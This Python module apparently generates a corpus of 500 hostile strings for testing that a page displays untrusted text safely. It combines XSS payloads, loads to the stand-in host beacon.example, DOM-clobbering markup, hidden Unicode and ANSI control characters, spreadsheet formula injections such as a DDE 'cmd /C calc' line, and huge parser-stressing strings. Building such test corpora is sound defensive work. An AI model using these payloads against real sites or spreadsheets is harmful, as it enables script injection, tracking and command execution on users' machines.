"""500 hostile strings: what would run, load, hide, reorder or take over a page, were it anything but text.

What would run sets `window.__ran`; what would load names the host `beacon.example`.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

RUN = "window.__ran.push({0})"
BEACON = "https://beacon.example/{0}"
COUNT = 500

_SCRIPTS = (
    "<script>{run}</script>",
    "<ScRiPt src={beacon}></sCrIpT>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</pre></bdi><img src=x onerror={run}>",
    "--><script>{run}</script><!--",
    "]]><script>{run}</script>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}>#x'/></svg>",
    "<math><mtext></table><mglyph><style><img src onerror={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:parent.{run}></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<body onload={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    '"><img src=x onerror={run}>',
    "' autofocus onfocus={run} x='",
    "{{{{ self.__init__.__globals__ }}}}<script>{run}</script>",
    "[x](javascript:{run})",
    "<javascript:{run}>",
    "![x](javascript:{run})",
    "[x](data:text/html,<script>parent.{run}</script>)",
    "javascript:{run}",
    "JaVaScRiPt&colon;{run}",
    "java\tscript:{run}",
    "\x01javascript:{run}",
    "vbscript:{run}",
)
_LOADS = (
    "<img src={beacon}>",
    "![beacon]({beacon})",
    "![beacon][1]\n\n[1]: {beacon}",
    "<link rel=stylesheet href={beacon}>",
    "<style>@import '{beacon}';</style>",
    "<style>body{{background:url({beacon})}}</style>",
    "<p style='background:url({beacon})'>x</p>",
    "<meta http-equiv=refresh content='0;url={beacon}'>",
    "<base href={beacon}/>",
    "<form action={beacon}><button autofocus>x</button></form>",
    "<a ping={beacon} href={beacon}>x</a>",
    "<link rel=preconnect href={beacon}><link rel=dns-prefetch href={beacon}>",
    "<svg><image href={beacon} /></svg>",
    "<audio src={beacon} autoplay></audio>",
    "<script type=module>import '{beacon}'</script>",
    "<link rel=prefetch href={beacon}>",
)
_CLOBBERS = (
    "<form id=main name=main></form>",
    "<img name=querySelector>",
    "<a id=__ran><a id=__ran name=push href=x>",
    "<form name=body><input name=firstChild></form>",
    "<input name=getElementById>",
    "<html id=main>",
    "<div id=credits>0 credits</div>",
    "<main id=main data-refresh-s=0.001>",
)
_HIDDEN = (
    "\u202eevil\u202c {0}",
    "\u2066a\u2069\u2067b {0}",
    "\u200b\u200c\u200d\ufeffzero {0}",
    "\x1b[2J\x1b[1;1Hansi {0}",
    "\x1b]8;;https://beacon.example/{0}\x07link\x1b]8;;\x07",
    "\x9b31m c1 {0}",
    "\u0000nul {0}",
    "\U000e0041\U000e0042tags {0}",
    "a\u0300\u0301\u0302\u0303\u0304\u0305 {0}" * 20,
    "\ufdfd" * 40 + "{0}",
    "\u2028line\u2029paragraph {0}",
    "раураl.example {0}",
)
_FORMULAS = ('=HYPERLINK("{beacon}";"x")', "+1+cmd|' /C calc'!A0", "-2+3+{0}", "@SUM(1+1)*{0}", "\t=1+{0}", "\r=1+{0}")
_WRAPS = (
    "{0}",
    "**{0}**",
    "`{0}`",
    "| a | b |\n|---|---|\n| {0} | x |",
    "> {0}\n",
    "- {0}\n",
    "```html\n{0}\n```",
    '{{"x": "{0}"}}',
)
LONG = ("A" * 1_000_000, "<b>" * 333_333, "[" * 100_000, "*a " * 100_000, "\u202e" * 100_000, "> " * 50_000 + "x")
"""Lines of up to a megabyte, and those that readers of Markdown take long for where they are badly written."""


def _generate() -> Iterator[str]:
    shapes = (*_SCRIPTS, *_LOADS, *_CLOBBERS, *_HIDDEN, *_FORMULAS)
    for number, (wrap, shape) in enumerate(product(_WRAPS, shapes)):
        # those without a place for a number are texts as they are
        text = shape if shape in _CLOBBERS else shape.format(number, run=RUN.format(number), beacon=BEACON.format(number))
        yield wrap.replace("{0}", text).replace("{{", "{") if wrap != "{0}" else text


STRINGS = (*tuple(_generate())[: COUNT - len(LONG)], *LONG)
SHORT = STRINGS[: COUNT - len(LONG)]


def cut_chunks(characters_max: int) -> list[str]:
    """Return texts that hold all of `SHORT` between them, none longer than a page shows of one."""
    chunks = [""]
    for text in SHORT:
        if len(chunks[-1]) + len(text) + 1 > characters_max:
            chunks.append("")
        chunks[-1] += f"{text}\n"
    return chunks
